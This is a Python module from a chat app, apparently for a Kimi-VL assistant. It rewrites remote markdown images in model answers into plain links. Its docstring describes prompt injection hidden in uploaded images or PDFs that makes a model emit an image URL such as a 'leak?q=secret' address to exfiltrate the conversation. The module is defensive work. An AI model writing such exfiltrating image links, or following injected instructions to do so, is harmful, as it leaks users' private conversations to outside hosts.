"""Model text made safe to render: remote images in markdown become plain links.

A markdown image in an answer, ``![x](http://host/leak?q=secret)``, makes the
browser fetch that address as soon as the text is shown, with no click: text
hidden in an uploaded image or PDF can make the model write one and so send the
conversation anywhere (prompt injection, then exfiltration). The app's
Content-Security-Policy (``img-src 'self' data: blob:``, :mod:`ui.security`)
already stops the fetch; :func:`link_remote_images` also rewrites such images
into links, so the person sees a link they may follow instead of a broken image.

Images are found with markdown-it-py, a CommonMark parser, made to agree with the
renderer of the page: Chainlit 2.12's ``Markdown.tsx`` renders with react-markdown 9
(micromark: CommonMark) plus remark-gfm, remark-directive and remark-math, without raw
HTML, and checks addresses only when it renders (its ``defaultUrlTransform`` empties a
``javascript:`` one). So markdown-it here accepts every address too: its own check
would make ``[1]: javascript:x`` no definition, and the definitions after it
paragraph text, while the page still defines them and shows their images. Code spans,
code blocks and escaped ``\\![`` are left alone, except where a construct markdown-it
does not know could end the code early in the page (``$`` math, ``:name[...]``
directives, GFM autolinks and footnotes): images in code spans are also looked for in
a second parse that knows no code spans, and a code block holding ``![`` next to a
``$$``, ``:::`` or ``[^`` has every ``![`` rewritten.

All of it takes time linear in the text (one or two parses per pass; a text longer
than :data:`PARSE_CHARS` is not parsed: every ``![`` in it is rewritten), and a long
answer's parse takes seconds: call :func:`link_remote_images_off_loop` on the event loop.
"""

from __future__ import annotations

import asyncio
import gc
import re
import threading
from bisect import bisect_left
from collections.abc import Iterator
from contextlib import contextmanager
from itertools import accumulate
from typing import Any, Final

from markdown_it import MarkdownIt
from markdown_it.rules_inline.image import image as _parse_image
from markdown_it.rules_inline.state_inline import StateInline
from markdown_it.token import Token

_ENV_KEY: Final = "kimi_images"
_PASSES: Final = 4
"""Rewrites before giving up on precision: an image inside another image's text
only shows once the outer one is a link."""
_BANG_BEFORE_BRACKET: Final = re.compile(r"!(?=\[)")
_ENDS_CODE_BLOCKS: Final = re.compile(r"\$\$|:::|\[\^")
"""Markers of the page's math blocks, directive containers and footnote definitions,
which can end a code block early in the page (markdown-it knows none of them)."""

PARSE_CHARS: Final = 300_000
"""Texts longer than this are not parsed: every ``![`` is rewritten, code included. A
real answer at Kimi-VL's 32,768 max tokens is about 130,000 characters (4 a token);
markdown-it takes seconds for 300,000 characters of dense links."""


_pause_lock = threading.Lock()
_pauses = [0, False]
"""How many :func:`collector_paused` blocks run now (all threads), and whether the first
of them turned collection off (so the last turns it back on)."""


@contextmanager
def collector_paused() -> Iterator[None]:
    """No automatic garbage collection, in any thread, while the block runs.

    Reading a long answer makes tens of thousands of objects that live until it ends
    (markdown-it's tokens, the grounding reader's matches), which sets off full
    collections: each walks every object of the process holding the GIL, so the event
    loop waits for all of it (measured on the 10,000-link answer: 0.1-0.3 s a pass with
    the app's start-up objects frozen, app.py; 1.2 s without). What those readers make is
    freed by reference counting (a collection after them finds no garbage), so nothing
    piles up meanwhile; collections resume when the last such block ends.
    """
    with _pause_lock:
        if _pauses[0] == 0:
            _pauses[1] = gc.isenabled()
            gc.disable()
        _pauses[0] += 1
    try:
        yield
    finally:
        with _pause_lock:
            _pauses[0] -= 1
            if _pauses[0] == 0 and _pauses[1]:
                gc.enable()


def _anything(url: str) -> bool:
    """markdown-it's link check, as the page's renderer does it while parsing: none."""
    return True


def _recording_image(state: StateInline, silent: bool) -> bool:
    """markdown-it's image rule, noting where each image starts and its address."""
    start = state.pos
    count = len(state.tokens)
    found = _parse_image(state, silent)
    if found and not silent:
        src = next(t.attrGet("src") for t in state.tokens[count:] if t.type == "image")
        state.env.setdefault(_ENV_KEY, []).append((state.src, start, str(src or "")))
    return found


def _parser(code_spans: bool = True) -> MarkdownIt:
    """CommonMark plus GFM tables (remark-gfm renders tables in Chainlit), every address
    accepted; ``code_spans=False`` reads what is between backticks as markdown too."""
    md = MarkdownIt("commonmark").enable("table")
    md.validateLink = _anything  # type: ignore[method-assign]
    md.inline.ruler.at("image", _recording_image)
    if not code_spans:
        md.disable("backticks")
    return md


_MD: Final = _parser()
_MD_NO_CODE_SPANS: Final = _parser(code_spans=False)


_MARKUP: Final = re.compile(r"[\\`*_\[\]<>~$&|]")
"""Characters that are markup anywhere in a line of the page's markdown: CommonMark's
escapes, code, emphasis, links and images, autolinks and HTML, entities; GFM's
strikethrough and tables; remark-math's ``$`` (Chainlit's ``Markdown.tsx``)."""
_COLON: Final = re.compile(r":(?=[A-Za-z/:])")
"""A colon that starts a remark-directive (``:name``) or a GFM autolink (``http://``)."""
_WWW_DOT: Final = re.compile(r"(?<![\w.])(www)\.", re.IGNORECASE)
"""The dot of a GFM ``www.`` autolink."""
_BLOCK_START: Final = re.compile(r"^(\s*)(?:([#+=-])|(\d+)([.)]))")
"""What starts a heading, a list or a rule at the start of a line."""
_LINE_BREAK: Final = re.compile(r"\r\n?|\n")


def escape_markdown(text: str) -> str:
    """``text`` (a file name, a label, model or user text) to put inside a line of markdown,
    where it renders as written: what would be markup there backslash-escaped (CommonMark
    lets a backslash make any ASCII punctuation literal), line breaks as spaces (a break
    could start a new block: a list, a heading, a link definition). Punctuation that is
    markup only elsewhere (a ``.`` mid-line, a ``-`` between words) stays as it is.

    E.g. ``escape_markdown("![x](http://h/a).png")`` is ``"!\\[x\\](http\\://h/a).png"``.
    """
    line = _MARKUP.sub(r"\\\g<0>", _LINE_BREAK.sub(" ", text))
    line = _WWW_DOT.sub(r"\1\\.", _COLON.sub(r"\\:", line))
    return _BLOCK_START.sub(_block, line)


def _block(match: re.Match[str]) -> str:
    """The start of a line with its block marker escaped (``# `` ``- `` ``1. ``)."""
    indent, marker, digits, dot = match.groups()
    return f"{indent}\\{marker}" if marker else f"{indent}{digits}\\{dot}"


def is_remote(src: str) -> bool:
    """True for an image address the browser would fetch: anything but ``data:``."""
    return not src.strip().lower().startswith("data:")


class _Lines:
    """A text and where each of its lines starts, to place what markdown-it found in it."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.lines = text.splitlines(keepends=True)
        self.starts = list(accumulate((len(line) for line in self.lines), initial=0))


def _placed(lines: _Lines, md: MarkdownIt) -> tuple[list[int], bool] | None:
    """Offsets of the ``!`` of each remote image ``md`` finds, and whether an image lies
    in another image's text (another pass will find it); None if one cannot be placed."""
    env: dict[str, Any] = {}
    tokens = md.parse(lines.text, env)
    remote: dict[int, list[int]] = {}
    for source, pos, src in env.get(_ENV_KEY, []):
        if is_remote(src):
            remote.setdefault(id(source), []).append(pos)
    starts: list[int] = []
    for token in tokens:
        positions = remote.pop(id(token.content), None) if token.type == "inline" else None
        if positions is None:
            continue
        placed = None if token.map is None else _place(lines, token, positions)
        if placed is None:
            return None
        starts += placed
    return starts, bool(remote)  # what is left was found in the text of another image


def _place(lines: _Lines, token: Token, positions: list[int]) -> list[int] | None:
    """Offsets in the text of ``positions`` in an inline token's content, or None if one
    is not where it should be.

    markdown-it gives inline text per block (list markers, ``>`` and indentation
    removed) and the block's first line, so an image's column in that text is
    found again in its source line (one search per line, not per image).
    """
    assert token.map is not None
    breaks = [m.start() for m in re.finditer("\n", token.content)]
    inline_lines = token.content.split("\n")
    offsets: dict[int, int] = {}
    placed = []
    for pos in positions:
        row = bisect_left(breaks, pos)
        col = pos - (breaks[row - 1] + 1 if row else 0)
        index = token.map[0] + row
        if index >= len(lines.lines):
            return None
        if row not in offsets:
            offsets[row] = lines.lines[index].rstrip("\r\n").find(inline_lines[row])
        at = lines.starts[index] + offsets[row] + col
        if offsets[row] < 0 or lines.text[at : at + 2] != "![":
            return None
        placed.append(at)
    return placed


def _image_starts(text: str) -> tuple[list[int], bool] | None:
    """Offsets in ``text`` of the ``!`` of each remote image, sorted, and whether another
    pass is needed; None when every ``![`` must go (see the module docstring)."""
    lines = _Lines(text)
    found = _placed(lines, _MD)
    if found is None or (_ENDS_CODE_BLOCKS.search(text) and _code_block_with_image(text)):
        return None
    starts, nested = found
    if "`" in text:
        again = _placed(lines, _MD_NO_CODE_SPANS)
        if again is None:
            return None
        starts, nested = starts + again[0], nested or again[1]
    return sorted(set(starts)), nested


def _code_block_with_image(text: str) -> bool:
    """True if a fenced or indented code block of ``text`` holds ``![``."""
    blocks = ("fence", "code_block")
    return any(token.type in blocks and "![" in token.content for token in _MD.parse(text))


def link_remote_images(text: str) -> str:
    """Rewrite every markdown image with a remote address into a plain link.

    ``![chart](https://x/c.png)`` becomes ``[chart](https://x/c.png)``; an image
    with no text, ``![](https://x/c.png)``, becomes ``[image](https://x/c.png)``.
    Reference images (``![x][ref]``) become reference links, whatever the
    address (``javascript:`` ones too: the page empties those). ``data:`` images
    (nothing to fetch) and code blocks are kept as written; images in code spans
    are rewritten too (the page's math, directives or autolinks can end a code
    span early: module docstring). If an image cannot be placed in the source
    (markdown-it's inline text differs from the line, e.g. after tab expansion),
    or the text is longer than :data:`PARSE_CHARS`, every ``![`` is rewritten,
    code included: no image is left either way.

    Args:
        text: markdown as the model wrote it (any length; time linear in it).

    Returns:
        The same markdown in which no remote image remains.
    """
    if "![" not in text:
        return text
    with collector_paused():
        return _rewritten(text)


def _rewritten(text: str) -> str:
    """:func:`link_remote_images` of a text that holds ``![``."""
    for _ in range(_PASSES if len(text) <= PARSE_CHARS else 0):
        found = _image_starts(text)
        if found is None:
            break  # rewrite them all, below
        starts, nested = found
        if not starts:
            return text
        pieces, last = [], 0
        for at in starts:
            pieces += [text[last:at], "[image" if text[at + 2 : at + 3] == "]" else "["]
            last = at + 2
        text = "".join([*pieces, text[last:]])
        if not nested:
            return text
    return _BANG_BEFORE_BRACKET.sub("", text.replace("![]", "[image]"))


async def link_remote_images_off_loop(text: str) -> str:
    """:func:`link_remote_images` in a thread: a long answer's parse takes seconds, which
    on the event loop would stall every chat of the process. Text without ``![`` is
    returned at once."""
    if "![" not in text:
        return text
    return await asyncio.to_thread(link_remote_images, text)
